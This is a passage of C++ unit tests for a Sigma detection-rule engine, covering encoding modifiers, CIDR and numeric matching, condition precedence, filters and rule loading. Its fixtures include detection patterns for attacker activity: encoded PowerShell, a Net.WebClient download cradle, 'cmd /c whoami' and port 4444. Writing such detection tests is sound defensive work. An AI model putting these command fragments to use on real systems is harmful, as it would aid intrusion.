    EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell -enc " + blob}}))) << text;
    EXPECT_TRUE(r.Fires(Proc({{"ScriptBlock", blob}}))) << text;
  }
  // The same text without UTF-16 does not match the wide forms.
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", B64("New-Object Net.WebClient")}})));
}

TEST(SigmaRuleModifiers, Utf16beEncodesBigEndian) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|utf16be|base64offset|contains: 'calc.exe'
  condition: selection
)"));
  for (const std::string prefix : {"", "a", "ab"}) {
    const std::string text = prefix + "start calc.exe";
    EXPECT_TRUE(r.Fires(Proc({{"CommandLine", B64(Utf16Be(text))}}))) << text;
  }
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", B64("start calc.exe")}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", B64(Utf16Be("start calx.exe"))}})));
}

TEST(SigmaRuleModifiers, Utf16PrependsByteOrderMark) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|utf16|base64offset|contains: 'cmd'
  condition: selection
)"));
  const std::string bom = "\xFF\xFE";
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", B64(bom + Utf16Le("cmd /c whoami"))}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "x " + B64("A" + bom + Utf16Le("cmd /c"))}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", B64(Utf16Le("cmd /c whoami"))}})));
}

TEST(SigmaRuleModifiers, NumericComparisons) {
  Loaded r(NetRule(R"(
  lt:
    DestinationPort|lt: 1024
  lte:
    DestinationPort|lte: 1024
  gt:
    DestinationPort|gt: 49151
  gte:
    DestinationPort|gte: 49151
  condition: 1 of them
)"));
  // Separate rules per operator make the boundaries visible.
  auto rule = [](const char* op, int value) {
    return NetRule(std::string("  sel:\n    DestinationPort|") + op + ": " + std::to_string(value) +
                   "\n  condition: sel\n");
  };
  Loaded lt(rule("lt", 1024)), lte(rule("lte", 1024)), gt(rule("gt", 1024)), gte(rule("gte", 1024));
  auto port = [](const char* p) { return Net({{"DestinationPort", p}}); };
  EXPECT_TRUE(lt.Fires(port("1023")));
  EXPECT_FALSE(lt.Fires(port("1024")));
  EXPECT_TRUE(lte.Fires(port("1024")));
  EXPECT_FALSE(lte.Fires(port("1025")));
  EXPECT_TRUE(gt.Fires(port("1025")));
  EXPECT_FALSE(gt.Fires(port("1024")));
  EXPECT_TRUE(gte.Fires(port("1024")));
  EXPECT_FALSE(gte.Fires(port("1023")));
  // Numbers compare as numbers, not as text ("900" > "1024" as text).
  EXPECT_FALSE(gt.Fires(port("900")));
  EXPECT_TRUE(lt.Fires(port("900")));
  // A value that is not a number matches no comparison.
  EXPECT_FALSE(lt.Fires(port("http")));
  EXPECT_TRUE(r.Fires(port("80")));
  EXPECT_FALSE(r.Fires(port("8080")));
}

TEST(SigmaRuleModifiers, CidrMatchesIPv4Networks) {
  Loaded r(NetRule(R"(
  selection:
    DestinationIp|cidr:
      - '10.0.0.0/8'
      - '192.168.1.0/26'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Net({{"DestinationIp", "10.200.3.4"}})));
  EXPECT_TRUE(r.Fires(Net({{"DestinationIp", "192.168.1.63"}})));
  EXPECT_FALSE(r.Fires(Net({{"DestinationIp", "192.168.1.64"}})));
  EXPECT_FALSE(r.Fires(Net({{"DestinationIp", "11.0.0.1"}})));
  EXPECT_FALSE(r.Fires(Net({{"DestinationIp", "not an ip"}})));
}

TEST(SigmaRuleModifiers, CidrMatchesIPv6Networks) {
  Loaded r(NetRule(R"(
  selection:
    DestinationIp|cidr: '2001:db8:abcd::/48'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Net({{"DestinationIp", "2001:db8:abcd:12::1"}})));
  EXPECT_TRUE(r.Fires(Net({{"DestinationIp", "2001:DB8:ABCD::"}})));
  EXPECT_FALSE(r.Fires(Net({{"DestinationIp", "2001:db8:abce::1"}})));
}

TEST(SigmaRuleModifiers, CidrIPv4AddressDoesNotMatchIPv6Network) {
  Loaded r(NetRule(R"(
  selection:
    DestinationIp|cidr: '::/0'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Net({{"DestinationIp", "fe80::1"}})));
  EXPECT_FALSE(r.Fires(Net({{"DestinationIp", "10.0.0.1"}})));
}

TEST(SigmaRuleModifiers, ExpandUsesConfiguredPlaceholders) {
  LoadOptions options;
  options.placeholders["Administrators"] = {"CORP\\alice", "CORP\\bob"};
  options.placeholders["Servers"] = {"srv*"};
  Loaded r(ProcRule(R"(
  selection:
    User|expand: '%Administrators%'
    Computer|expand: '%Servers%.corp.local'
  condition: selection
)"),
           options);
  EXPECT_EQ(r.result.inactive, 0u);
  EXPECT_TRUE(r.Fires(Proc({{"User", "corp\\alice"}, {"Computer", "srv01.corp.local"}})));
  EXPECT_TRUE(r.Fires(Proc({{"User", "CORP\\bob"}, {"Computer", "SRV-DB.corp.local"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "CORP\\carol"}, {"Computer", "srv01.corp.local"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "CORP\\alice"}, {"Computer", "ws01.corp.local"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "%Administrators%"}, {"Computer", "srv01.corp.local"}})));
}

TEST(SigmaRuleModifiers, PlaceholderWithoutExpandIsLiteral) {
  Loaded r(ProcRule(R"(
  selection:
    User: '%Administrators%'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"User", "%Administrators%"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "alice"}})));
}

TEST(SigmaRuleModifiers, ExpandWithoutValuesLoadsInactiveWithWarning) {
  Loaded r(ProcRule(R"(
  selection:
    User|expand: '%Administrators%'
  condition: selection
)"));
  EXPECT_EQ(r.result.rules_loaded, 1u);
  EXPECT_EQ(r.result.inactive, 1u);
  ASSERT_FALSE(r.result.warnings.empty());
  EXPECT_NE(r.result.warnings[0].reason.find("Administrators"), std::string::npos)
      << r.result.warnings[0].reason;
  EXPECT_FALSE(r.Fires(Proc({{"User", "%Administrators%"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "alice"}})));
}

TEST(SigmaRuleModifiers, FieldrefMatchesEqualFields) {
  // The referenced field comes after the tested one, in a fresh matcher.
  Loaded r(ProcRule(R"(
  selection:
    TargetUserName|fieldref: SubjectUserName
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"TargetUserName", "alice"}, {"SubjectUserName", "ALICE"}})));
  EXPECT_TRUE(r.Fires(Proc({{"SubjectUserName", "bob"}, {"TargetUserName", "bob"}})));
  EXPECT_FALSE(r.Fires(Proc({{"TargetUserName", "alice"}, {"SubjectUserName", "bob"}})));
  EXPECT_FALSE(r.Fires(Proc({{"TargetUserName", "alice"}})));
}

TEST(SigmaRuleModifiers, FieldrefWithNeqMatchesDifferentFields) {
  Loaded r(ProcRule(R"(
  selection:
    TargetUserName|fieldref|neq: SubjectUserName
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"TargetUserName", "alice"}, {"SubjectUserName", "bob"}})));
  EXPECT_FALSE(r.Fires(Proc({{"TargetUserName", "alice"}, {"SubjectUserName", "Alice"}})));
}

TEST(SigmaRuleModifiers, FieldrefWithContainsStartsWithEndsWith) {
  Loaded contains(ProcRule(R"(
  selection:
    CommandLine|fieldref|contains: Image
  condition: selection
)"));
  Loaded starts(ProcRule(R"(
  selection:
    CommandLine|fieldref|startswith: Image
  condition: selection
)"));
  Loaded ends(ProcRule(R"(
  selection:
    CommandLine|fieldref|endswith: Image
  condition: selection
)"));
  const Event middle =
      Proc({{"CommandLine", "start C:\\a\\evil.exe now"}, {"Image", "C:\\a\\evil.exe"}});
  const Event head = Proc({{"CommandLine", "C:\\a\\evil.exe now"}, {"Image", "C:\\a\\evil.exe"}});
  const Event tail = Proc({{"CommandLine", "run C:\\a\\evil.exe"}, {"Image", "C:\\a\\evil.exe"}});
  const Event none = Proc({{"CommandLine", "run other.exe"}, {"Image", "C:\\a\\evil.exe"}});
  EXPECT_TRUE(contains.Fires(middle));
  EXPECT_TRUE(contains.Fires(head));
  EXPECT_FALSE(contains.Fires(none));
  EXPECT_TRUE(starts.Fires(head));
  EXPECT_FALSE(starts.Fires(middle));
  EXPECT_FALSE(starts.Fires(tail));
  EXPECT_TRUE(ends.Fires(tail));
  EXPECT_FALSE(ends.Fires(head));
}

TEST(SigmaRuleModifiers, TimePartModifiersReadATimeValuedField) {
  auto rule = [](const char* part, int value) {
    return ProcRule(std::string("  sel:\n    UtcTime|") + part + ": " + std::to_string(value) +
                    "\n  condition: sel\n");
  };
  // 2024-03-15 is a Friday in ISO week 11.
  Event ev = Proc({});
  ev.Add(KeyFor("UtcTime", "UtcTime"), ValueType::kTime, "2024-03-15T13:45:30.250Z");
  const std::vector<std::tuple<const char*, int, int>> cases{
      {"minute", 45, 44}, {"hour", 13, 14}, {"day", 15, 16},
      {"week", 11, 12},   {"month", 3, 4},  {"year", 2024, 2023}};
  for (const auto& [part, good, bad] : cases) {
    EXPECT_TRUE(Loaded(rule(part, good)).Fires(ev)) << part << " " << good;
    EXPECT_FALSE(Loaded(rule(part, bad)).Fires(ev)) << part << " " << bad;
  }
  // Sysmon writes "YYYY-MM-DD hh:mm:ss.fff" (no T, no zone).
  Event sysmon = Proc({{"UtcTime", "2024-03-15 02:05:00.123"}});
  EXPECT_TRUE(Loaded(rule("hour", 2)).Fires(sysmon));
  EXPECT_FALSE(Loaded(rule("hour", 13)).Fires(sysmon));
}

TEST(SigmaRuleModifiers, UnknownModifierIsALoadIssueNamingIt) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswithh: '\cmd.exe'
  condition: selection
)"),
           {}, /*expect_issues=*/true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("endswithh"), std::string::npos)
      << r.result.issues[0].reason;
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

// ---- Conditions --------------------------------------------------------------------

constexpr std::string_view kThreeSelections = R"(
  a:
    A: 'yes'
  b:
    B: 'yes'
  c:
    C: 'yes'
)";

Event Abc(bool a, bool b, bool c) {
  return Proc({{"A", a ? "yes" : "no"}, {"B", b ? "yes" : "no"}, {"C", c ? "yes" : "no"}});
}

TEST(SigmaRuleConditions, NotBindsTighterThanAndTighterThanOr) {
  // a or b and not c == a or (b and (not c))
  Loaded r(ProcRule(std::string(kThreeSelections) + "  condition: a or b and not c\n"));
  for (int bits = 0; bits < 8; ++bits) {
    const bool a = bits & 1, b = bits & 2, c = bits & 4;
    EXPECT_EQ(r.Fires(Abc(a, b, c)), a || (b && !c)) << "a=" << a << " b=" << b << " c=" << c;
  }
}

TEST(SigmaRuleConditions, NotAppliesOnlyToTheNextOperand) {
  // not a and b == (not a) and b
  Loaded r(ProcRule(std::string(kThreeSelections) + "  condition: not a and b\n"));
  for (int bits = 0; bits < 4; ++bits) {
    const bool a = bits & 1, b = bits & 2;
    EXPECT_EQ(r.Fires(Abc(a, b, false)), !a && b) << "a=" << a << " b=" << b;
  }
}

TEST(SigmaRuleConditions, ParenthesesOverridePrecedence) {
  Loaded r(ProcRule(std::string(kThreeSelections) + "  condition: (a or b) and not c\n"));
  for (int bits = 0; bits < 8; ++bits) {
    const bool a = bits & 1, b = bits & 2, c = bits & 4;
    EXPECT_EQ(r.Fires(Abc(a, b, c)), (a || b) && !c) << "a=" << a << " b=" << b << " c=" << c;
  }
  Loaded nested(ProcRule(std::string(kThreeSelections) + "  condition: not (a and (b or c))\n"));
  for (int bits = 0; bits < 8; ++bits) {
    const bool a = bits & 1, b = bits & 2, c = bits & 4;
    EXPECT_EQ(nested.Fires(Abc(a, b, c)), !(a && (b || c)))
        << "a=" << a << " b=" << b << " c=" << c;
  }
}

TEST(SigmaRuleConditions, ParseConditionBuildsThePrecedenceTree) {
  using internal::CondNode;
  std::vector<internal::Selection> selections(3);
  selections[0].name = "a";
  selections[1].name = "b";
  selections[2].name = "c";
  auto tree = internal::ParseCondition("a or b and not c", selections);
  ASSERT_TRUE(tree.has_value()) << tree.error().reason;
  ASSERT_EQ(tree->kind, CondNode::kOr);
  ASSERT_EQ(tree->children.size(), 2u);
  EXPECT_EQ(tree->children[0].kind, CondNode::kSelection);
  EXPECT_EQ(tree->children[0].selection, 0);
  const CondNode& conj = tree->children[1];
  ASSERT_EQ(conj.kind, CondNode::kAnd);
  ASSERT_EQ(conj.children.size(), 2u);
  EXPECT_EQ(conj.children[0].selection, 1);
  ASSERT_EQ(conj.children[1].kind, CondNode::kNot);
  EXPECT_EQ(conj.children[1].children[0].selection, 2);

  EXPECT_FALSE(internal::ParseCondition("a and", selections).has_value());
  EXPECT_FALSE(internal::ParseCondition("(a or b", selections).has_value());
  EXPECT_FALSE(internal::ParseCondition("a b", selections).has_value());
}

constexpr std::string_view kPatternSelections = R"(
  sel_img:
    Image|endswith: '\cmd.exe'
  sel_cli:
    CommandLine|contains: 'whoami'
  other:
    User: 'alice'
)";

TEST(SigmaRuleConditions, OneOfPatternOrsMatchingIdentifiers) {
  Loaded r(ProcRule(std::string(kPatternSelections) + "  condition: 1 of sel_*\n"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "whoami /all"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "alice"}})));  // `other` is not in sel_*
}

TEST(SigmaRuleConditions, AllOfPatternAndsMatchingIdentifiers) {
  Loaded r(ProcRule(std::string(kPatternSelections) + "  condition: all of sel_*\n"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"CommandLine", "whoami /all"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "whoami /all"}, {"User", "alice"}})));
}

TEST(SigmaRuleConditions, OneOfThemOrsEveryIdentifier) {
  Loaded r(ProcRule(std::string(kPatternSelections) + "  condition: 1 of them\n"));
  EXPECT_TRUE(r.Fires(Proc({{"User", "alice"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "bob"}})));
}

TEST(SigmaRuleConditions, AllOfThemAndsEveryIdentifier) {
  Loaded r(ProcRule(std::string(kPatternSelections) + "  condition: all of them\n"));
  EXPECT_TRUE(
      r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"CommandLine", "whoami"}, {"User", "alice"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"CommandLine", "whoami"}})));
}

TEST(SigmaRuleConditions, UnderscoreIdentifiersAreExcludedFromThemAndPatterns) {
  const std::string selections = R"(
  sel_main:
    Image|endswith: '\cmd.exe'
  _sel_aux:
    User: 'alice'
)";
  Loaded all_them(ProcRule(selections + "  condition: all of them\n"));
  EXPECT_TRUE(all_them.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "bob"}})));
  Loaded one_them(ProcRule(selections + "  condition: 1 of them\n"));
  EXPECT_FALSE(one_them.Fires(Proc({{"User", "alice"}})));
  Loaded all_pattern(ProcRule(selections + "  condition: all of *sel*\n"));
  EXPECT_TRUE(all_pattern.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "bob"}})));
  // Referenced by name, an underscore identifier works as usual.
  Loaded named(ProcRule(selections + "  condition: sel_main and not _sel_aux\n"));
  EXPECT_TRUE(named.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "bob"}})));
  EXPECT_FALSE(named.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "alice"}})));
}

TEST(SigmaRuleConditions, ListOfConditionsIsOred) {
  Loaded r(ProcRule(std::string(kThreeSelections) + R"(  condition:
    - a and b
    - c
)"));
  EXPECT_TRUE(r.Fires(Abc(true, true, false)));
  EXPECT_TRUE(r.Fires(Abc(false, false, true)));
  EXPECT_FALSE(r.Fires(Abc(true, false, false)));
  EXPECT_FALSE(r.Fires(Abc(false, true, false)));
  EXPECT_EQ(r.Matches(Abc(true, true, true)).size(), 1u);  // one rule, one match
}

TEST(SigmaRuleConditions, UndefinedIdentifierIsALoadIssue) {
  Loaded r(ProcRule(std::string(kThreeSelections) + "  condition: a and filter_missing\n"), {},
           true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("filter_missing"), std::string::npos)
      << r.result.issues[0].reason;
  EXPECT_NE(r.result.issues[0].reason.find("not defined"), std::string::npos)
      << r.result.issues[0].reason;
  EXPECT_EQ(r.result.issues[0].path, "test.yml");
  EXPECT_EQ(r.result.issues[0].rule, "Test rule");
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

TEST(SigmaRuleConditions, PipeAggregationIsALoadIssue) {
  Loaded r(ProcRule(std::string(kThreeSelections) + "  condition: a | count() by B > 5\n"), {},
           true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("aggregation"), std::string::npos)
      << r.result.issues[0].reason;
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

// ---- Filters (Sigma filters specification) ------------------------------------------

constexpr std::string_view kFilteredRule = R"(title: Rar compression
id: 6f3e2987-db24-4c78-a860-b4f4095a7095
name: proc_creation_win_rar_compress
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\rar.exe'
  condition: selection
)";

std::string FilterDoc(std::string_view rules_ref, std::string_view logsource_category) {
  return "---\ntitle: Filter admins\nlogsource:\n  product: windows\n  category: " +
         std::string(logsource_category) + "\nfilter:\n  rules:\n    - " + std::string(rules_ref) +
         "\n  selection:\n    User|startswith: 'adm_'\n  condition: not selection\n";
}

TEST(SigmaRuleFilters, FilterByRuleIdSuppressesMatchingEvents) {
  Loaded r(std::string(kFilteredRule) +
           FilterDoc("6f3e2987-db24-4c78-a860-b4f4095a7095", "process_creation"));
  EXPECT_EQ(r.result.filters, 1u);
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "alice"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "adm_alice"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\zip.exe"}, {"User", "alice"}})));
}

TEST(SigmaRuleFilters, FilterByRuleNameSuppressesMatchingEvents) {
  Loaded r(std::string(kFilteredRule) +
           FilterDoc("proc_creation_win_rar_compress", "process_creation"));
  EXPECT_EQ(r.result.filters, 1u);
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "alice"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "ADM_bob"}})));
}

TEST(SigmaRuleFilters, FilterDefinedBeforeTheRuleApplies) {
  Loaded r(FilterDoc("proc_creation_win_rar_compress", "process_creation").substr(4) + "---\n" +
           std::string(kFilteredRule));
  EXPECT_EQ(r.result.filters, 1u);
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "adm_alice"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "alice"}})));
}

TEST(SigmaRuleFilters, FilterWithDifferentLogsourceDoesNotApply) {
  Loaded r(std::string(kFilteredRule) +
           FilterDoc("6f3e2987-db24-4c78-a860-b4f4095a7095", "network_connection"));
  EXPECT_EQ(r.result.filters, 0u);
  EXPECT_FALSE(r.result.warnings.empty());
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"User", "adm_alice"}})));
}

TEST(SigmaRuleFilters, FilterForAnotherRuleDoesNotApply) {
  const std::string other = R"(---
title: Other rule
id: 0e95725d-7320-415d-80f7-004da920fc11
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\rar.exe'
  condition: selection
)";
  Loaded r(std::string(kFilteredRule) + other +
           FilterDoc("6f3e2987-db24-4c78-a860-b4f4095a7095", "process_creation"));
  const Event admin = Proc({{"Image", "C:\\rar.exe"}, {"User", "adm_alice"}});
  EXPECT_EQ(r.Titles(admin), std::vector<std::string>{"Other rule"});
}

TEST(SigmaRuleFilters, FilterSelectionsDoNotJoinThem) {
  // The rule says `all of them`; the filter's selection must not become part of it.
  const std::string rule = R"(title: All of them
id: 1a2b3c4d-0000-4000-8000-000000000001
logsource:
  product: windows
  category: process_creation
detection:
  sel_a:
    Image|endswith: '\rar.exe'
  sel_b:
    CommandLine|contains: ' a '
  condition: all of them
)";
  Loaded r(rule + FilterDoc("1a2b3c4d-0000-4000-8000-000000000001", "process_creation"));
  EXPECT_TRUE(
      r.Fires(Proc({{"Image", "C:\\rar.exe"}, {"CommandLine", "rar a x.rar"}, {"User", "bob"}})));
  EXPECT_FALSE(r.Fires(
      Proc({{"Image", "C:\\rar.exe"}, {"CommandLine", "rar a x.rar"}, {"User", "adm_bob"}})));
}

// ---- Loading -------------------------------------------------------------------------

TEST(SigmaRuleLoading, MultiDocumentFileLoadsEveryRule) {
  const std::string yaml = R"(title: First
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\one.exe'}
  condition: sel
---
title: Second
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\two.exe'}
  condition: sel
---
title: Third
logsource: {product: windows, category: network_connection}
detection:
  sel: {DestinationPort: 4444}
  condition: sel
)";
  Loaded r(yaml);
  EXPECT_EQ(r.result.rules_loaded, 3u);
  ASSERT_TRUE(r.result.rules);
  EXPECT_EQ(RuleCount(*r.result.rules), 3u);
  EXPECT_EQ(r.Titles(Proc({{"Image", "C:\\two.exe"}})), std::vector<std::string>{"Second"});
  EXPECT_EQ(r.Titles(Net({{"DestinationPort", "4444"}})), std::vector<std::string>{"Third"});
}

TEST(SigmaRuleLoading, BrokenYamlReportsFileAndLine) {
  const std::string yaml =
      "title: Broken\n"               // line 1
      "logsource:\n"                  // 2
      "  product: windows\n"          // 3
      "detection:\n"                  // 4
      "  selection:\n"                // 5
      "    Image: [unclosed, list\n"  // 6
      "  condition: selection\n";     // 7
  Loaded r(yaml, {}, true, "rules/broken.yml");
  ASSERT_EQ(r.result.issues.size(), 1u);
  const LoadIssue& issue = r.result.issues[0];
  EXPECT_EQ(issue.path, "rules/broken.yml");
  EXPECT_GE(issue.line, 6) << issue.reason;
  EXPECT_LE(issue.line, 8) << issue.reason;
  EXPECT_FALSE(issue.reason.empty());
}

TEST(SigmaRuleLoading, BrokenDocumentAmongGoodOnesIsReported) {
  const std::string yaml = R"(title: Good
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\good.exe'}
  condition: sel
---
title: Bad
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\bad.exe'
  condition: sel
)";
  Loaded r(yaml, {}, true, "mixed.yml");
  ASSERT_FALSE(r.result.issues.empty());
  EXPECT_EQ(r.result.issues[0].path, "mixed.yml");
  EXPECT_GE(r.result.issues[0].line, 9) << r.result.issues[0].reason;
}

TEST(SigmaRuleLoading, RuleWithoutTitleIsAnIssue) {
  Loaded r(R"(logsource: {product: windows, category: process_creation}
detection:
  sel: {Image: x}
  condition: sel
)",
           {}, true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("title"), std::string::npos);
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

TEST(SigmaRuleLoading, RuleWithoutLogsourceIsAnIssue) {
  Loaded r(R"(title: No logsource
detection:
  sel: {Image: x}
  condition: sel
)",
           {}, true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("logsource"), std::string::npos);
  EXPECT_EQ(r.result.issues[0].rule, "No logsource");
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

TEST(SigmaRuleLoading, RuleWithoutDetectionIsAnIssue) {
  Loaded r(R"(title: No detection
logsource: {product: windows, category: process_creation}
level: high
)",
           {}, true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_EQ(r.result.rules_loaded, 0u);
}

TEST(SigmaRuleLoading, DetectionWithoutConditionIsAnIssue) {
  Loaded r(R"(title: No condition
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image: x}
)",
           {}, true);
  ASSERT_EQ(r.result.issues.size(), 1u);
  EXPECT_NE(r.result.issues[0].reason.find("condition"), std::string::npos);
}

std::string LeveledRule(const std::string& title, const std::string& level,
                        const std::string& status, const std::string& tag) {
  return "---\ntitle: " + title + "\nstatus: " + status + "\nlevel: " + level + "\ntags: [" + tag +
         "]\nlogsource: {product: windows, category: process_creation}\ndetection:\n  sel: "
         "{Image|endswith: '\\x.exe'}\n  condition: sel\n";
}

const std::string kLeveledRules =
    LeveledRule("low-stable", "low", "stable", "attack.t1059.001") +
    LeveledRule("high-test", "high", "test", "attack.t1003") +
    LeveledRule("critical-exp", "critical", "experimental", "attack.t10590") +
    LeveledRule("high-deprecated", "high", "deprecated", "attack.t1059");

TEST(SigmaRuleLoading, DefaultFilterDropsDeprecatedRules) {
  Loaded r(kLeveledRules);
  EXPECT_EQ(r.Titles(Proc({{"Image", "C:\\x.exe"}})),
            (std::vector<std::string>{"low-stable", "high-test", "critical-exp"}));
  EXPECT_EQ(r.result.filtered_out, 1u);
}

TEST(SigmaRuleLoading, FilterByMinimumLevel) {
  LoadOptions options;
  options.filter.min_level = Severity::kHigh;
  Loaded r(kLeveledRules, options);
  EXPECT_EQ(r.Titles(Proc({{"Image", "C:\\x.exe"}})),
            (std::vector<std::string>{"high-test", "critical-exp"}));
}

TEST(SigmaRuleLoading, FilterByStatus) {
  LoadOptions options;
  options.filter.statuses = {"stable", "deprecated"};
  Loaded r(kLeveledRules, options);
  EXPECT_EQ(r.Titles(Proc({{"Image", "C:\\x.exe"}})),
            (std::vector<std::string>{"low-stable", "high-deprecated"}));
}

TEST(SigmaRuleLoading, FilterByTagPrefix) {
  LoadOptions options;
  options.filter.tags = {"attack.t1059"};
  Loaded r(kLeveledRules, options);
  // attack.t1059 keeps attack.t1059.001, not attack.t10590 (and deprecated stays out).
  EXPECT_EQ(r.Titles(Proc({{"Image", "C:\\x.exe"}})), std::vector<std::string>{"low-stable"});
}

TEST(SigmaRuleLoading, MatchedFieldsNameTheirSelection) {
  Loaded r(ProcRule(R"(
  selection_img:
    Image|endswith: '\cmd.exe'
  selection_cli:
    CommandLine|contains: 'whoami'
  filter:
    User: 'SYSTEM'
  condition: all of selection_* and not filter
)"));
  const auto matches = r.Matches(Proc(
      {{"Image", "C:\\Windows\\cmd.exe"}, {"CommandLine", "cmd /c whoami"}, {"User", "alice"}}));
  ASSERT_EQ(matches.size(), 1u);
  const auto& fields = matches[0].fields;
  ASSERT_EQ(fields.size(), 2u);
  auto find = [&](std::string_view original) -> const MatchedField* {
    for (const auto& f : fields) {
      if (f.original == original) return &f;
    }
    return nullptr;
  };
  const MatchedField* image = find("Image");
  ASSERT_NE(image, nullptr);
  EXPECT_EQ(image->field, "process.executable");
  EXPECT_EQ(image->value, "C:\\Windows\\cmd.exe");
  EXPECT_EQ(image->selection, "selection_img");
  const MatchedField* cli = find("CommandLine");
  ASSERT_NE(cli, nullptr);
  EXPECT_EQ(cli->value, "cmd /c whoami");
  EXPECT_EQ(cli->selection, "selection_cli");
  EXPECT_EQ(find("User"), nullptr);  // the negated filter took no part in the match
}

TEST(SigmaRuleLoading, RuleMetadataIsKept) {
  Loaded r(R"(title: Meta
id: 929a2e3b-7d3e-4a4c-8f44-3a6e0b0c5f11
name: meta_rule
status: stable
level: critical
tags: [attack.execution, attack.t1059.001]
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\x.exe'}
  condition: sel
)");
  ASSERT_TRUE(r.result.rules);
  ASSERT_EQ(RuleCount(*r.result.rules), 1u);
  const RuleInfo& info = RuleAt(*r.result.rules, 0);
  EXPECT_EQ(info.id, "929a2e3b-7d3e-4a4c-8f44-3a6e0b0c5f11");
  EXPECT_EQ(info.name, "meta_rule");
  EXPECT_EQ(info.level, Severity::kCritical);
  EXPECT_EQ(info.status, "stable");
  EXPECT_EQ(info.tags, (std::vector<std::string>{"attack.execution", "attack.t1059.001"}));
  EXPECT_EQ(info.category, "process_creation");
  EXPECT_EQ(info.path, "test.yml");
}

// ---- Routing -------------------------------------------------------------------------

TEST(SigmaRuleRouting, ProcessCreationRuleDoesNotSeeNetworkConnectionEvents) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\powershell.exe'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\powershell.exe"}})));
  EXPECT_FALSE(r.Fires(Net({{"Image", "C:\\powershell.exe"}})));
}

TEST(SigmaRuleRouting, ProcessCreationRuleSeesSecurity4688WithFieldAlias) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\powershell.exe'
  condition: selection
)"));
  // Security 4688 names the image NewProcessName; the mapping aliases it.
  EXPECT_TRUE(r.Fires(Security("4688", {{"NewProcessName", "C:\\powershell.exe"}})));
  EXPECT_FALSE(r.Fires(Security("4624", {{"NewProcessName", "C:\\powershell.exe"}})));
}

TEST(SigmaRuleRouting, SecurityServiceRuleSeesSecurityChannelEvents) {
  Loaded r(R"(title: Logon type 10
logsource:
  product: windows
  service: security
detection:
  selection:
    EventID: 4624
    LogonType: 10
  condition: selection
)");
  EXPECT_TRUE(r.Fires(Security("4624", {{"LogonType", "10"}})));
  EXPECT_FALSE(r.Fires(Security("4624", {{"LogonType", "3"}})));
  // The same record in another channel is not a Security event.
  Event system = MakeEvent(EventFormat::kWindowsFlat,
